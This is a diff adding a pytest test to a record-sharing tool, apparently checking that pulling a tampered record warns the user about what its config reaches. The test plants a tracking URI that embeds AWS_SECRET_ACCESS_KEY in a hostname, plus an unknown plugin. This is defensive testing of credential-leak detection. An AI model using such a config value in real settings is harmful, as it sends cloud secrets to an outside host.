@@ -33,6 +33,22 @@ def _drop_files(record: Record) -> dict[str, object]:
     return {name: value for name, value in vars(record).items() if name not in ("files", "ended", "status")}
 
 
+def test_pull_says_what_the_config_reaches(
+    hosts: Hosts, copy: tuple[Path, str], tmp_path: Path, capfd: pytest.CaptureFixture[str]
+) -> None:
+    remote, url = copy
+    path = remote / "records" / f"{hosts.record.id}.json"
+    assert "Check" not in run_store(capfd, tmp_path / "a", url, "pull", path.stem)[1]
+    values = json.loads(path.read_text())
+    values["config"] |= {"tracking": {"uri": "http://${oc.env:AWS_SECRET_ACCESS_KEY}.org"}, "plugins": ["theirs"]}
+    path.write_text(json.dumps(values))
+    _, out, _ = run_store(capfd, tmp_path / "b", url, "pull", path.stem)
+    assert out.endswith(
+        "Check   That command logs to http://${oc.env:AWS_SECRET_ACCESS_KEY}.org; takes AWS_SECRET_ACCESS_KEY from the "
+        "environment; runs the plugins theirs.\n"
+    )
+
+
 def test_pull_completes_what_an_earlier_one_could_not(
     hosts: Hosts, copy: tuple[Path, str], tmp_path: Path, capfd: pytest.CaptureFixture[str]
 ) -> None:
